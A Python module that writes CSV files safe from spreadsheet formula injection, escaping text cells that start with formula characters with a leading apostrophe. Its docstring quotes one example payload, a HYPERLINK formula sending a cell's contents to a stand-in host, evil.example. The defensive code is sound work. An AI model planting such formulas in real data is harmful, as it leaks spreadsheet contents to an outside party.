"""CSV downloads that a spreadsheet opens as text, never as a formula.

Excel, LibreOffice and Google Sheets run a cell that begins with `=`, `+`, `-` or
`@` as a formula (tab and carriage return are stripped before they look), so a
member who names themselves `=HYPERLINK("https://evil.example/?"&A1, "open")`
would run it on the coordinator's machine. Every CSV writer of the project is
`csv_writer`: a text cell beginning with one of those characters is written with a
leading apostrophe (OWASP's advice), which the spreadsheet shows as plain text.
Numbers are written as they are (-3 stays a number).
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    """The value to write for one cell: `None` as empty, formula-like text neutralised."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _SafeWriter:
    def __init__(self, out, **kwargs):
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> _SafeWriter:
    """Like `csv.writer(out)`, with every cell passed through `csv_cell`."""
    return _SafeWriter(out, **kwargs)
